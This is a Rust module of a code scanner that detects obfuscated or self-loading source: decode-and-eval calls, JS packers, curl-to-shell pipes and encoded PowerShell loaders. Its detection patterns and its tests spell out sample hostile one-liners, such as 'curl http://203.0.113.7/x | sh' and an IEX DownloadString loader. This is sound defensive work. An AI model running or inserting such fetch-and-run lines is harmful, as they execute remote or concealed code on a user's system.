//! Source that hides what it does: decoded and run at once, packed, off the screen, loaded from elsewhere.
//!
//! Must never judge what programs made: minified, built and vendored files are packed by nature.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, MatchKind};
use regex::bytes::Regex;

use super::{Confidence, Found, OBFUSCATED, Sink, View};

/// What is looked at at all; the number says what is tried there.
const NEEDLES: [(&str, Try); 26] = [
    ("eval(", Try::Run),
    ("eval (", Try::Run),
    ("exec(", Try::Run),
    ("Function(", Try::Run),
    ("assert(base64", Try::Run),
    ("_0x", Try::Names),
    ("\\x65\\x76\\x61\\x6c", Try::Spelt),
    ("\\x72\\x65\\x71\\x75\\x69\\x72\\x65", Try::Spelt),
    ("\\x63\\x68\\x69\\x6c\\x64\\x5f", Try::Spelt),
    ("ZXZhbC", Try::Nothing),
    ("| sh", Try::Pipe),
    ("|sh", Try::Pipe),
    ("| bash", Try::Pipe),
    ("|bash", Try::Pipe),
    ("| sudo ", Try::Pipe),
    ("| python", Try::Pipe),
    ("| node", Try::Pipe),
    ("<(curl", Try::Pipe),
    ("$(curl", Try::Pipe),
    ("$(wget", Try::Pipe),
    ("owershell", Try::Shell),
    ("pwsh", Try::Shell),
    ("DownloadString", Try::Shell),
    ("FromBase64String", Try::Shell),
    ("| iex", Try::Shell),
    ("|iex", Try::Shell),
];

#[derive(Clone, Copy, Debug, PartialEq)]
enum Try {
    Run,
    Names,
    Spelt,
    Pipe,
    Shell,
    Nothing,
}

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    // No needle is within another, so that this finds the same as the usual kind, and is much faster.
    let mut builder = AhoCorasick::builder();
    builder.match_kind(MatchKind::LeftmostFirst).build(NEEDLES.iter().map(|(needle, _)| needle)).ok()
});

macro_rules! regex {
    ($name:ident, $pattern:expr) => {
        static $name: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new($pattern).ok());
    };
}

// What is run is decoded in the same breath.
regex!(
    DECODED,
    r#"(?x-u)^(?:eval|exec|Function|assert)\s?\(\s*(?:[\w.$]+\(\s*){0,4}(?:
        (?:__import__\(\s*['"](?:zlib|base64|marshal|codecs|lzma|bz2|gzip)['"]\s*\)|zlib|lzma|bz2|gzip|base64|marshal|codecs|binascii)\s*\.\s*(?:decompress|b64decode|b32decode|b85decode|a85decode|loads|decode|unhexlify|decodebytes)\s*\(
        | b64decode\( | bytes\.fromhex\( | bytearray\.fromhex\( | atob\s*\( | unescape\s*\( | base64_decode\s*\( | gzinflate\s*\( | gzuncompress\s*\( | str_rot13\s*\(
        | String\.fromCharCode\s*\( | Buffer\.from\s*\([^)\n]{0,400},\s*['"](?:base64|hex)['"] | Base64\.decode64\s*\(? | \[?\s*['"]?[A-Za-z0-9+/=]{120,}
    )"#
);
regex!(PACKER, r"(?-u)^eval\s?\(function\(p,\s?a,\s?c,\s?k,\s?e,\s?[dr]\)");
regex!(NAME, r"(?-u)^_0x[0-9a-f]{4,6}\b");
regex!(
    DOWNLOAD,
    r#"(?x-u)(?:curl|wget)\b[^\n|;]{0,400}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby)\b
        | (?:(?:ba|z)?sh|source|\.|python3?|eval)\s+(?:-c\s+)?["']?(?:<|\$)\((?:curl|wget)\b"#
);
regex!(
    DECODED_SHELL,
    r"(?-u)base64\s+(?:-d|-D|--decode)[^\n]{0,80}\|\s*(?:sudo\s+)?(?:/(?:usr/)?bin/)?(?:(?:ba|z)?sh|python3?|node|perl)\b"
);
regex!(
    UNSAFE_SOURCE,
    r"(?-u)https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|(?:curl|wget)\b[^\n]{0,100}\shttp://|/(?:raw/)?pastebin\.com|//transfer\.sh|//termbin"
);
regex!(
    ENCODED,
    r"(?i-u)(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,300}\s-e(?:c|n|nc|nco\w*)?\s+['\x22]?[A-Za-z0-9+/=]{40,}"
);
regex!(
    LOADED,
    r"(?i-u)(?:iex|invoke-expression)\b[^\n]{0,120}(?:downloadstring|iwr\b|invoke-webrequest|irm\b|frombase64string)|(?:downloadstring|iwr\b|irm\b|invoke-webrequest|frombase64string)[^\n]{0,400}\|\s*(?:iex|invoke-expression)\b"
);

/// Blanks after which nobody looks for more on a line.
const OFF_SCREEN: usize = 150;
/// Names such as `_0x3f2a` that make a packed file.
const NAMES: usize = 12;
/// A line that nobody wrote by hand.
const LONG: usize = 4_000;

#[expect(clippy::too_many_lines, reason = "one arm for each thing that is tried")]
pub fn scan(view: &View<'_>, sink: &mut Sink<'_>) {
    let place = view.place();
    let text = &*view.text;
    let script =
        text.starts_with(b"#!") || is_script(view.file_name()) || matches!(view.extension(), "yml" | "yaml");
    if place.made || place.words || !(place.code || script) {
        return;
    }
    let (mut names, mut done) = (0, 0);
    let add = |sink: &mut Sink<'_>, range: Range<usize>, kind: &'static str, message: &str, confidence| {
        let key = String::from_utf8_lossy(
            text.get(range.start..range.end.min(range.start + 200)).unwrap_or_default(),
        );
        let found =
            Found::plain(OBFUSCATED, range.clone(), message.to_owned(), &key, confidence).with("kind", kind);
        sink.add(found.with("where", place.name()));
    };
    for hit in FINDER.iter().flat_map(|finder| finder.find_iter(text)) {
        let (_, what) = NEEDLES[hit.pattern().as_usize()];
        let ahead = &text[hit.start()..text.len().min(hit.start() + 600)];
        match what {
            Try::Run => {
                let at = |m: regex::bytes::Match<'_>| hit.start()..hit.start() + m.end().min(80);
                if let Some(found) = DECODED.as_ref().and_then(|regex| regex.find(ahead)) {
                    add(
                        sink,
                        at(found),
                        "decoded",
                        "the code decodes something and runs it",
                        Confidence::High,
                    );
                } else if let Some(found) = PACKER.as_ref().and_then(|regex| regex.find(ahead)) {
                    add(
                        sink,
                        at(found),
                        "packer",
                        "the code is packed and unpacks itself when it runs",
                        Confidence::High,
                    );
                }
            }
            Try::Names if NAME.as_ref().is_some_and(|name| name.is_match(&ahead[..ahead.len().min(12)])) => {
                names += 1;
                if names == NAMES {
                    add(
                        sink,
                        hit.range(),
                        "names",
                        "the code is made unreadable by a tool that renames everything",
                        Confidence::High,
                    );
                }
            }
            Try::Spelt => add(
                sink,
                hit.range(),
                "spelt",
                "the code spells a word in hexadecimal that would run something",
                Confidence::High,
            ),
            // Once for every line.
            Try::Pipe | Try::Shell if hit.start() < done => {}
            Try::Pipe => {
                let line = line_around(text, hit.start());
                done = line.end;
                pipe(text, line, |range, kind, message, confidence| {
                    add(sink, range, kind, message, confidence);
                });
            }
            Try::Shell => {
                let line = line_around(text, hit.start());
                done = line.end;
                let of = &text[line.clone()];
                let at = |m: regex::bytes::Match<'_>| {
                    line.start + m.start()..line.start + m.end().min(m.start() + 80)
                };
                if let Some(found) = ENCODED.as_ref().and_then(|regex| regex.find(of)) {
                    add(
                        sink,
                        at(found),
                        "decoded",
                        "the command is encoded so that nobody reads it",
                        Confidence::High,
                    );
                } else if let Some(found) = LOADED.as_ref().and_then(|regex| regex.find(of)) {
                    add(
                        sink,
                        at(found),
                        "loader",
                        "the command runs what it downloads or decodes",
                        Confidence::High,
                    );
                }
            }
            Try::Names | Try::Nothing => {}
        }
    }
    off_screen(text, |range| {
        add(sink, range, "off-screen", "the line goes on far off the screen", Confidence::High);
    });
    if matches!(view.extension(), "js" | "mjs" | "cjs" | "ts" | "py" | "php" | "rb") {
        long_line(text, |range| {
            add(
                sink,
                range,
                "long-line",
                "the line is packed code that nobody can review",
                Confidence::Medium,
            );
        });
    }
}

fn is_script(name: &str) -> bool {
    name.starts_with("Dockerfile")
        || name.ends_with("Dockerfile")
        || name == "Containerfile"
        || matches!(
            name,
            "Makefile"
                | "makefile"
                | "GNUmakefile"
                | "justfile"
                | "Jenkinsfile"
                | "Vagrantfile"
                | "setup.cfg"
        )
}

/// Returns the line around a place, as far as 500 bytes go.
fn line_around(text: &[u8], at: usize) -> Range<usize> {
    let from = at.saturating_sub(500);
    let start = memchr::memrchr(b'\n', &text[from..at]).map_or(from, |offset| from + offset + 1);
    let to = text.len().min(at + 500);
    start..memchr::memchr(b'\n', &text[at..to]).map_or(to, |offset| at + offset)
}

fn pipe(
    text: &[u8],
    line: Range<usize>,
    mut add: impl FnMut(Range<usize>, &'static str, &'static str, Confidence),
) {
    let of = &text[line.clone()];
    let head = of.trim_ascii_start();
    if head.starts_with(b"#") || head.starts_with(b"//") || head.starts_with(b"*") {
        return;
    }
    if let Some(found) = DECODED_SHELL.as_ref().and_then(|regex| regex.find(of)) {
        add(
            line.start + found.start()..line.start + found.end(),
            "decoded",
            "the command decodes something and runs it",
            Confidence::High,
        );
    } else if let Some(found) = DOWNLOAD.as_ref().and_then(|regex| regex.find(of)) {
        let unsafe_source = UNSAFE_SOURCE.as_ref().is_some_and(|regex| regex.is_match(of));
        let confidence = if unsafe_source { Confidence::High } else { Confidence::Medium };
        add(
            line.start + found.start()..line.start + found.end(),
            "loader",
            "the command runs what it downloads",
            confidence,
        );
    }
}

fn off_screen(text: &[u8], mut add: impl FnMut(Range<usize>)) {
    // A run that is long enough covers one of the places looked at.
    const STEP: usize = OFF_SCREEN / 2;
    let mut at = STEP;
    while at < text.len() {
        if text[at] != b' ' {
            at += STEP;
            continue;
        }
        let start = text[..at].iter().rposition(|b| *b != b' ').map_or(0, |before| before + 1);
        let end = text[at..].iter().position(|b| *b != b' ').map_or(text.len(), |offset| at + offset);
        at = end + STEP;
        let before = start.checked_sub(1).and_then(|at| text.get(at));
        let goes_on = text.get(end).is_some_and(|b| !b.is_ascii_whitespace());
        if end - start < OFF_SCREEN || !goes_on || before.is_none_or(u8::is_ascii_whitespace) {
            continue;
        }
        let ahead = &text[end..text.len().min(end + 40)];
        if ahead.iter().take_while(|b| **b != b'\n').any(|b| matches!(b, b'(' | b'=' | b';' | b'[')) {
            add(end..end + ahead.len());
        }
    }
}

/// Code without blanks in a line of thousands of bytes; a long text or table in quotes is data.
fn long_line(text: &[u8], mut add: impl FnMut(Range<usize>)) {
    let mut start = 0;
    while text.len() - start > LONG {
        // The last line end in reach: no line before it is long.
        if let Some(offset) = memchr::memrchr(b'\n', &text[start..start + LONG]) {
            start += offset + 1;
            continue;
        }
        let end = memchr::memchr(b'\n', &text[start..]).map_or(text.len(), |offset| start + offset);
        if end - start > LONG {
            let line = &text[start..end.min(start + 20_000)];
            let count = |set: &[u8]| line.iter().filter(|b| set.contains(b)).count();
            let (blanks, calls, ends, words) = (count(b" \t"), count(b"("), count(b";{}"), count(b"="));
            let each = line.len() / 100;
            if blanks < each * 6 && calls > each && ends > each && words > each / 2 {
                add(start..start + 40);
                return;
            }
        }
        start = end.saturating_add(1).min(text.len());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::binary::Binary;
    use crate::scan::{Source, Worker};

    fn kinds(path: &str, text: &str) -> Vec<(String, Confidence)> {
        let mut worker = Worker::new(&[&Binary], None);
        worker.scan(&Source::new(path, text.as_bytes()));
        worker.into_facts().iter().map(|f| (f.attributes["kind"].clone(), f.confidence)).collect()
    }

    #[test]
    fn what_hides_is_found() {
        let names =
            (0..20).map(|n| format!("var _0x{n:04x} = _0x{:04x};", n + 1)).collect::<Vec<_>>().join("\n");
        let packed = "function(a){return b(a)};var c=d(e);".repeat(200);
        for (path, text, kind) in [
            ("a.py", "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJ')))", "decoded"),
            ("a.py", "exec(base64.b64decode(x))", "decoded"),
            ("a.py", "exec(bytes.fromhex('00'))", "decoded"),
            ("a.js", "eval(atob('YQ=='))", "decoded"),
            ("a.js", "eval(Buffer.from('YQ', 'base64').toString())", "decoded"),
            ("a.js", "new Function(String.fromCharCode(97))()", "decoded"),
            ("a.php", "<?php eval(gzinflate(base64_decode('x')));", "decoded"),
            ("a.js", "eval(function(p,a,c,k,e,d){return p})", "packer"),
            ("a.js", &names, "names"),
            ("a.js", "global['\\x65\\x76\\x61\\x6c'](x)", "spelt"),
            ("a.sh", "echo aGk= | base64 -d | sh", "decoded"),
            ("a.ps1", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "decoded"),
            ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://x.y')", "loader"),
            ("a.sh", "curl http://203.0.113.7/x | sh", "loader"),
            ("a.js", &format!("const a = 1;{}eval(b)", " ".repeat(200)), "off-screen"),
        ] {
            assert_eq!(kinds(path, text), [(kind.to_owned(), Confidence::High)], "{text:.80}");
        }
        assert_eq!(kinds("a.js", &packed), [("long-line".to_owned(), Confidence::Medium)]);
        assert_eq!(
            kinds("Dockerfile", "RUN curl -sSf https://sh.rustup.rs | sh -s -- -y"),
            [("loader".to_owned(), Confidence::Medium)]
        );
        assert_eq!(
            kinds("a.sh", "bash <(curl -s https://x.y/z)"),
            [("loader".to_owned(), Confidence::Medium)]
        );
    }

    #[test]
    fn what_is_written_by_hand_is_not() {
        for (path, text) in [
            ("a.py", "exec(compile(source, name, 'exec'))"),
            ("a.py", "subprocess.exec(cmd); cursor.exec('x')"),
            ("a.js", "eval(code); x = atob(y); new Function('a', 'return a')"),
            ("a.sh", "# curl https://x.y | sh\ncurl https://x.y | jq .\ncat x | shasum\nls | sh-like"),
            ("a.js", "const _0x = 1; const mask_0x12ab = 2;"),
            ("dist/a.min.js", "eval(atob('YQ=='))"),
            ("README.md", "curl https://x.y | sh"),
            ("a.py", &format!("x = '{}'\n", "QUJD".repeat(2_000))),
            ("a.py", &format!("t = [{}]\n", "12, 14, ".repeat(2_000))),
            ("a.py", &format!("x{}# end", " ".repeat(200))),
        ] {
            assert_eq!(kinds(path, text), [], "{text:.80}");
        }
    }

    #[test]
    fn long_texts_take_time_in_proportion() {
        // As many places to look at as fit: the work for each is bounded.
        for piece in ["eval(", "curl |sh ", "_0x1234 ", "powershell ", "(((((((("] {
            let text = piece.repeat(200_000 / piece.len());
            let _ = kinds("a.js", &text);
        }
    }
}
